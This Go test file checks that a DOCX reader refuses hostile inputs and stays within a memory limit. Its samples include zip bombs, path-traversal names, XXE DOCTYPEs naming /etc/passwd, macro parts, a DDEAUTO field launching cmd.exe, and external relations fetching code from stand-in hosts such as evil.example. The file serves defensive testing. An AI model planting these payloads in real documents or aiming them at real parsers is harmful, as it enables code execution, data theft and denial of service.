package office

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"io"
	"runtime"
	"runtime/debug"
	"runtime/metrics"
	"strings"
	"testing"
	"time"

	"spolupis/documents/body"
)

// entry is one part of a file made for a test.
type entry struct {
	name, text string
	method     uint16
}

// plainFile is a small good document as parts.
func plainFile(t testing.TB) []entry {
	t.Helper()
	file, err := Write(Document{
		Body:     body.Body{Blocks: []body.Block{{Kind: body.Paragraph, Runs: []body.Run{{Text: "Rada kraje schvaluje."}}}}},
		Comments: []Comment{{Author: "Eva", Text: "Proč?", To: Point{Offset: 4}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	z, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var out []entry
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, entry{f.Name, string(b), zip.Store})
	}
	return out
}

func pack(t testing.TB, entries []entry) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, e := range entries {
		f, err := z.CreateHeader(&zip.FileHeader{Name: e.name, Method: e.method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := io.WriteString(f, e.text); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// with is the good document with one part changed, or added.
func with(t testing.TB, name string, change func(text string) string, more ...entry) []byte {
	t.Helper()
	entries := append(plainFile(t), more...)
	for i := range entries {
		if entries[i].name == name {
			entries[i].text = change(entries[i].text)
			return pack(t, entries)
		}
	}
	return pack(t, append(entries, entry{name, change(""), zip.Deflate}))
}

func swap(old, new string) func(string) string {
	return func(s string) string {
		if !strings.Contains(s, old) {
			panic("nothing to swap: " + old)
		}
		return strings.Replace(s, old, new, 1)
	}
}

func put(text string) func(string) string { return func(string) string { return text } }

// inBody puts XML at the beginning of the text.
func inBody(t testing.TB, xml string) []byte {
	return with(t, "word/document.xml", swap("<w:body>", "<w:body>"+xml))
}

// relating adds a relation to a part of relations.
func relating(t testing.TB, part, kind, target, mode string) []byte {
	r := `<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" ` + mode + `/></Relationships>`
	return with(t, part, func(s string) string {
		if s == "" {
			return head + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + r
		}
		return strings.Replace(s, "</Relationships>", r, 1)
	})
}

const outside = `TargetMode="External"`

// patched changes a number in the central directory entry of a part; at counts from its signature.
func patched(t testing.TB, file []byte, name string, at int, value uint32, bytesWide int) []byte {
	t.Helper()
	file = bytes.Clone(file)
	for i := 0; i < len(file)-46; i++ {
		if string(file[i:i+4]) == "PK\x01\x02" && strings.HasPrefix(string(file[i+46:]), name) {
			if bytesWide == 2 {
				binary.LittleEndian.PutUint16(file[i+at:], uint16(value))
			} else {
				binary.LittleEndian.PutUint32(file[i+at:], value)
			}
			return file
		}
	}
	t.Fatalf("no entry %s", name)
	return nil
}

// overlapping is the flat zip bomb: a hundred names for the same bytes.
func overlapping(t testing.TB) []byte {
	noise := make([]byte, 10_000)
	x := uint32(1)
	for i := range noise {
		x = x*1664525 + 1013904223
		noise[i] = byte(x >> 24)
	}
	var b bytes.Buffer
	header := func(sig string, name string, central bool) {
		b.WriteString(sig)
		fields := []uint16{20, 0, 0, 0, 0}
		if central {
			fields = append([]uint16{20}, fields...)
		}
		binary.Write(&b, binary.LittleEndian, fields)
		binary.Write(&b, binary.LittleEndian, []uint32{crc32.ChecksumIEEE(noise), uint32(len(noise)), uint32(len(noise))})
		binary.Write(&b, binary.LittleEndian, []uint16{uint16(len(name)), 0})
		if central {
			b.Write(make([]byte, 14)) // offset 0: all share the one local entry
		}
		b.WriteString(name)
	}
	header("PK\x03\x04", "a000", false)
	b.Write(noise)
	start := b.Len()
	for i := range 100 {
		header("PK\x01\x02", fmt.Sprintf("a%03d", i), true)
	}
	size := b.Len() - start
	b.WriteString("PK\x05\x06")
	binary.Write(&b, binary.LittleEndian, []uint16{0, 0, 100, 100})
	binary.Write(&b, binary.LittleEndian, []uint32{uint32(size), uint32(start)})
	b.Write([]byte{0, 0})
	return b.Bytes()
}

type hostileFile struct {
	name, code, part string
	file             []byte
}

func hostileFiles(t testing.TB) []hostileFile {
	good := pack(t, plainFile(t))
	var many, small []entry
	for i := range MaxParts + 1 {
		many = append(many, entry{fmt.Sprint("x/", i), "", zip.Store})
	}
	for i := range 80 {
		small = append(small, entry{fmt.Sprintf("media/%02d", i), "x", zip.Store})
	}
	crowd := pack(t, append(plainFile(t), small...))
	for _, e := range small {
		crowd = patched(t, crowd, e.name, 24, minRatio-1, 4)
	}
	without := func(name string) (out []entry) {
		for _, e := range plainFile(t) {
			if e.name != name {
				out = append(out, e)
			}
		}
		return out
	}
	again := func(name string) []byte { return pack(t, append(plainFile(t), entry{name, "x", zip.Deflate})) }
	doctype := func(s string) string {
		return strings.Replace(s, "?>", `?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>`, 1)
	}
	system := func(s string) string {
		return strings.Replace(s, "?>", `?><!DOCTYPE x SYSTEM "file:///etc/passwd">`, 1)
	}
	p := func(inner string) string { return "<w:p>" + inner + "</w:p>" }
	r := func(inner string) string { return "<w:r>" + inner + "</w:r>" }
	field := func(code string) string {
		return p(r(`<w:fldChar w:fldCharType="begin"/>`) + r("<w:instrText>"+code+"</w:instrText>") + r(`<w:fldChar w:fldCharType="separate"/>`) + r("<w:t>x</w:t>") + r(`<w:fldChar w:fldCharType="end"/>`))
	}
	text := "<w:t>" + strings.Repeat("slovo ", 10_000) + "</w:t>"
	amplified := func(note string) []byte {
		entries := plainFile(t)
		for i := range entries {
			switch entries[i].name {
			case "word/document.xml":
				entries[i].text = swap("<w:body>", "<w:body>"+strings.Repeat(p(r(`<w:footnoteReference w:id="7"/>`)), 2000))(entries[i].text)
			case "word/_rels/document.xml.rels":
				entries[i].text = swap("</Relationships>", `<Relationship Id="rN" Type="`+relBase+`footnotes" Target="footnotes.xml"/></Relationships>`)(entries[i].text)
			}
		}
		return pack(t, append(entries, entry{"word/footnotes.xml", head + `<w:footnotes ` + wordNS + `><w:footnote w:id="7">` + p(note) + `</w:footnote></w:footnotes>`, zip.Deflate}))
	}
	comment := func(id int) string { return fmt.Sprintf(`<w:comment w:id="%d"/>`, id) }
	var comments strings.Builder
	for i := range MaxComments + 1 {
		comments.WriteString(comment(10 + i))
	}
	row := func(cells int) string { return "<w:tr>" + strings.Repeat("<w:tc/>", cells) + "</w:tr>" }
	return []hostileFile{
		{"an empty file", "format", "", nil},
		{"text", "format", "", []byte("Rada kraje schvaluje.")},
		{"a PDF", "format", "", []byte("%PDF-1.7\n1 0 obj")},
		{"an empty ZIP", "format", "", []byte("PK\x05\x06" + strings.Repeat("\x00", 18))},
		{"larger than the limit", "size", "", append(bytes.Clone(good), make([]byte, MaxFile)...)},
		{"an old .doc", "old", "", append(bytes.Clone(oleMagic), make([]byte, 2000)...)},
		{"half a file", "damaged", "", good[:len(good)/2]},
		{"cut before its end", "damaged", "", good[:len(good)-30]},
		{"a part with a wrong checksum", "damaged", "word/document.xml", patched(t, good, "word/document.xml", 16, 1, 4)},
		{"a part larger than it says", "damaged", "word/document.xml", patched(t, good, "word/document.xml", 24, 10, 4)},
		{"a ZIP of something else", "format", typesPart, pack(t, []entry{{"a.txt", "x", zip.Deflate}})},
		{"an encrypted part", "encrypted", "word/document.xml", patched(t, good, "word/document.xml", 8, 1, 2)},
		{"packed by bzip2", "method", "word/styles.xml", patched(t, good, "word/styles.xml", 10, 12, 2)},
		{"two thousand and one parts", "parts", "", pack(t, many)},
		{"a name that climbs out", "name", "../../etc/passwd", again("../../etc/passwd")},
		{"a name that climbs out on the way", "name", "word/../../x", again("word/../../x")},
		{"an absolute name", "name", "/etc/passwd", again("/etc/passwd")},
		{"a name with backslashes", "name", `..\..\x.exe`, again(`..\..\x.exe`)},
		{"a name with a drive", "name", "C:x", again("C:x")},
		{"a name with a line feed", "name", "a?b", again("a\nb")},
		{"a name of a thousand bytes", "name", strings.Repeat("a", 80) + "…", again(strings.Repeat("a", 1000))},
		{"a part twice", "duplicate", "word/document.xml", again("word/document.xml")},
		{"a part twice but for case", "duplicate", "Word/Document.XML", again("Word/Document.XML")},
		{"overlapping parts", "overlap", "a001", overlapping(t)},
		{"a bomb in one part", "ratio", "word/media/bomb.png", with(t, "word/media/bomb.png", put(strings.Repeat("\x00", 8<<20)))},
		{"a bomb that is the document", "ratio", "word/document.xml", pack(t, append(without("word/document.xml"), entry{"word/document.xml", strings.Repeat(" ", 8<<20), zip.Deflate}))},
		{"a bomb in many parts", "unpacked", "media/63", crowd},
		{"a part that claims four gigabytes", "unpacked", "word/document.xml", patched(t, good, "word/document.xml", 24, 0xfffffff0, 4)},
		{"no document", "missing", "word/document.xml", pack(t, without("word/document.xml"))},
		{"no relations", "missing", "word/document.xml", pack(t, without("_rels/.rels"))},
		{"no styles though they are named", "missing", "word/styles.xml", pack(t, without("word/styles.xml"))},
		{"two documents", "duplicate", "word/styles.xml", relating(t, "_rels/.rels", "officeDocument", "word/styles.xml", "")},
		{"a workbook", "kind", "word/document.xml", with(t, typesPart, swap(documentType, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"))},
		{"HTML that calls itself a document", "kind", "word/document.xml", with(t, typesPart, swap(documentType, "text/html"))},
		{"another root element", "kind", "word/document.xml", with(t, "word/document.xml", put(head+"<html/>"))},
		{"a document with macros", "macro", "word/document.xml", with(t, typesPart, swap(documentType, "application/vnd.ms-word.document.macroEnabled.main+xml"))},
		{"a macro", "macro", "word/vbaProject.bin", with(t, "word/vbaProject.bin", put("x"))},
		{"a macro under another name", "macro", "word/innocent.bin", with(t, typesPart, swap("</Types>", `<Override PartName="/word/innocent.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`), entry{"word/innocent.bin", "x", zip.Store})},
		{"data of a macro", "macro", "word/vbaData.xml", with(t, "word/vbaData.xml", put("<x/>"))},
		{"ActiveX", "macro", "word/activeX/activeX1.xml", with(t, "word/activeX/activeX1.xml", put("<x/>"))},
		{"a template elsewhere", "external", "word/_rels/settings.xml.rels", relating(t, "word/_rels/settings.xml.rels", "attachedTemplate", "file:///C:/evil.dotm", outside)},
		{"a picture elsewhere", "external", "word/_rels/document.xml.rels", relating(t, "word/_rels/document.xml.rels", "image", "http://evil.example/x.png", outside)},
		{"an object elsewhere", "external", "word/_rels/document.xml.rels", relating(t, "word/_rels/document.xml.rels", "oleObject", "http://evil.example/x.hta", outside)},
		{"a chapter elsewhere", "external", "word/_rels/document.xml.rels", relating(t, "word/_rels/document.xml.rels", "subDocument", "chapter.docx", outside)},
		{"a frame elsewhere", "external", "word/_rels/webSettings.xml.rels", relating(t, "word/_rels/webSettings.xml.rels", "frame", "http://evil.example", outside)},
		{"an address that is not called external", "external", "word/_rels/document.xml.rels", relating(t, "word/_rels/document.xml.rels", "image", "http://evil.example/x.png", "")},
		{"a share of Windows", "external", "word/_rels/document.xml.rels", relating(t, "word/_rels/document.xml.rels", "image", `\\evil\share\x.png`, "")},
		{"a DDE field", "external", "word/document.xml", inBody(t, field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"`))},
		{"a field that fetches a picture", "external", "word/document.xml", inBody(t, p(`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example&quot; "/>`))},
		{"a document type", "doctype", "word/document.xml", with(t, "word/document.xml", doctype)},
		{"a document type that names a file", "doctype", "word/comments.xml", with(t, "word/comments.xml", system)},
		{"a document type in relations", "doctype", "_rels/.rels", with(t, "_rels/.rels", system)},
		{"a document type in the types", "doctype", typesPart, with(t, typesPart, doctype)},
		{"broken XML", "xml", "word/document.xml", with(t, "word/document.xml", swap("</w:p>", ""))},
		{"XML cut off", "xml", "word/styles.xml", with(t, "word/styles.xml", func(s string) string { return s[:len(s)/2] })},
		{"an unknown entity", "xml", "word/document.xml", inBody(t, p(r("<w:t>&xxe;</w:t>")))},
		{"an empty part", "xml", "word/numbering.xml", with(t, "word/numbering.xml", put(""))},
		{"UTF-16", "charset", "word/document.xml", with(t, "word/document.xml", put("\xff\xfe<\x00w\x00"))},
		{"Windows-1250", "charset", "word/document.xml", with(t, "word/document.xml", swap("UTF-8", "windows-1250"))},
		{"a million attributes", "stretch", "word/document.xml", inBody(t, "<w:p"+strings.Repeat(` a=""`, 1_000_000)+"/>")},
		{"a comment of megabytes", "stretch", "word/document.xml", inBody(t, "<!--"+strings.Repeat("< x ", 100_000)+"-->")},
		{"elements ten thousand deep", "depth", "word/document.xml", inBody(t, strings.Repeat("<w:sdt><w:sdtContent>", 5000))},
		{"tables inside tables", "depth", "word/document.xml", inBody(t, strings.Repeat("<w:tbl><w:tr><w:tc>", 200))},
		{"fields inside fields", "depth", "word/document.xml", inBody(t, p(strings.Repeat(r(`<w:fldChar w:fldCharType="begin"/>`), 100)))},
		{"too many elements", "elements", "word/document.xml", inBody(t, strings.Repeat("<w:x/>", MaxElements))},
		{"too many elements in styles", "elements", "word/styles.xml", with(t, "word/styles.xml", swap("<w:docDefaults>", strings.Repeat("<w:style/>", MaxElements)+"<w:docDefaults>"))},
		{"too much text", "text", "word/document.xml", inBody(t, strings.Repeat(p(r(text)), 40))},
		{"a paragraph of megabytes", "paragraph", "word/document.xml", inBody(t, p(strings.Repeat(r(text), 20)))},
		{"paragraphs that changes join to one", "paragraph", "word/document.xml", inBody(t, strings.Repeat(`<w:p><w:pPr><w:rPr><w:ins w:author="Eva"/></w:rPr></w:pPr>`+r("<w:t>"+strings.Repeat("slovo ", 15)+"</w:t>")+"</w:p>", 19_000))},
		{"too many paragraphs", "text", "word/document.xml", inBody(t, strings.Repeat("<w:p/>", MaxBlocks+1))},
		{"too many lines in a paragraph", "text", "word/document.xml", inBody(t, p(r(strings.Repeat("<w:br/>", MaxBlocks+1))))},
		{"a long note shown two thousand times", "text", "word/document.xml", amplified(r("<w:t>" + strings.Repeat("slovo ", 5000) + "</w:t>"))},
		{"a colourful note shown two thousand times", "text", "word/document.xml", amplified(strings.Repeat(r("<w:rPr><w:b/></w:rPr><w:t>a</w:t>")+r("<w:t>b</w:t>"), 200))},
		{"a table of 65 columns", "columns", "word/document.xml", inBody(t, "<w:tbl>"+row(65)+"</w:tbl>")},
		{"a cell over a thousand columns", "columns", "word/document.xml", inBody(t, `<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="1000"/></w:tcPr></w:tc><w:tc/></w:tr></w:tbl>`)},
		{"too many cells", "cells", "word/document.xml", inBody(t, "<w:tbl>"+strings.Repeat(row(64), 800)+"</w:tbl>")},
		{"too many comments", "comments", "word/comments.xml", with(t, "word/comments.xml", swap("</w:comments>", comments.String()+"</w:comments>"))},
		{"too many tracked changes", "changes", "word/document.xml", inBody(t, strings.Repeat(p(`<w:ins w:author="Eva">`+r("<w:t>a</w:t>")+`</w:ins>`+r("<w:t>b</w:t>")), MaxChanges+1))},
		{"too many tracked changes in one place", "changes", "word/document.xml", inBody(t, strings.Repeat(p(strings.Repeat(`<w:ins w:author="Eva">`+r("<w:t>a</w:t>")+`</w:ins><w:del w:author="Eva">`+r("<w:delText>b</w:delText>")+`</w:del>`, 20)), MaxChanges/40+1))},
		{"two comments of one number", "duplicate", "word/comments.xml", with(t, "word/comments.xml", swap("</w:comments>", comment(0)+"</w:comments>"))},
	}
}

// peak is how much the heap grows at most while do runs.
func peak(do func()) uint64 {
	if race { // it uses memory of its own
		do()
		return 0
	}
	ballast := make([]byte, 16<<20) // or a small heap would be collected all the time
	defer debug.SetGCPercent(debug.SetGCPercent(25))
	runtime.GC()
	sample := []metrics.Sample{{Name: "/memory/classes/heap/objects:bytes"}}
	read := func() uint64 { metrics.Read(sample); return sample[0].Value.Uint64() }
	before := read()
	top := make(chan uint64)
	done := make(chan struct{})
	go func() {
		most := before
		for tick := time.NewTicker(200 * time.Microsecond); ; {
			most = max(most, read())
			select {
			case <-done:
				tick.Stop()
				top <- most
				return
			case <-tick.C:
			}
		}
	}()
	do()
	close(done)
	runtime.KeepAlive(ballast)
	return <-top - before
}

func TestHostileFilesAreRefusedByPart(t *testing.T) {
	files := hostileFiles(t)
	if len(files) < 40 {
		t.Fatalf("only %d files", len(files))
	}
	for _, c := range files {
		var err error
		grown := peak(func() { _, err = Read(c.file) })
		bad, ok := errors.AsType[*Error](err)
		switch {
		case !ok:
			t.Errorf("%s: got %v, want a refusal", c.name, err)
		case bad.Code != c.code || bad.Part != c.part:
			t.Errorf("%s: refused for %q in %q (%v), want %q in %q", c.name, bad.Code, bad.Part, err, c.code, c.part)
		case grown > 64<<20:
			t.Errorf("%s: took %d MiB of memory, want at most 64", c.name, grown>>20)
		}
		t.Logf("%-40s %6d KiB  %v", c.name, grown>>10, err)
	}
}

// TestTheLargestFileTakenStaysWithinItsMemory: what passes every limit costs no more than what does not.
func TestTheLargestFileTakenStaysWithinItsMemory(t *testing.T) {
	if race {
		t.Skip("the race detector uses memory of its own; make test-oracle runs this without it")
	}
	run := `<w:r><w:rPr><w:b/></w:rPr><w:t>a</w:t></w:r><w:r><w:t>b</w:t></w:r>`
	for name, xml := range map[string]string{
		"runs":    strings.Repeat("<w:p>"+strings.Repeat(run, 100)+"</w:p>", MaxElements/610),
		"cells":   "<w:tbl>" + strings.Repeat("<w:tr>"+strings.Repeat("<w:tc><w:p/></w:tc>", 64)+"</w:tr>", MaxBlocks/64) + "</w:tbl>",
		"changes": strings.Repeat(`<w:p><w:ins w:author="Eva"><w:r><w:t>a</w:t></w:r></w:ins><w:r><w:t>b</w:t></w:r></w:p>`, MaxChanges),
	} {
		file := inBody(t, xml)
		var err error
		grown := peak(func() {
			var d Document
			if d, err = Read(file); err == nil {
				Numbered(d.Body)
			}
		})
		if err != nil || grown > 64<<20 {
			t.Errorf("%s: %d MiB, %v", name, grown>>20, err)
		}
		t.Logf("%s: %d KiB of file, %d MiB of memory", name, len(file)>>10, grown>>20)
	}
}

// FuzzRead: whatever the bytes, Read ends with an Error or a Document that can be written and read back.
func FuzzRead(f *testing.F) {
	f.Add(pack(f, plainFile(f)), true)
	for _, e := range plainFile(f) {
		if e.name == "word/document.xml" {
			f.Add([]byte(e.text), false)
		}
	}
	good := plainFile(f)
	f.Fuzz(func(t *testing.T, data []byte, whole bool) {
		if !whole { // the text alone, in a good file: a fuzzer seldom finds a checksum
			for i := range good {
				if good[i].name == "word/document.xml" {
					good[i].text = string(data)
				}
			}
			data = pack(t, good)
		}
		d, err := Read(data)
		if err != nil {
			if _, ok := errors.AsType[*Error](err); !ok {
				t.Fatalf("refused with %v", err)
			}
			return
		}
		Numbered(d.Body)
		file, err := Write(d)
		if err != nil {
			t.Fatal(err)
		}
		again, err := Read(file)
		if err != nil {
			t.Fatal(err)
		}
		sameBody(t, "read again", again.Body, d.Body)
	})
}
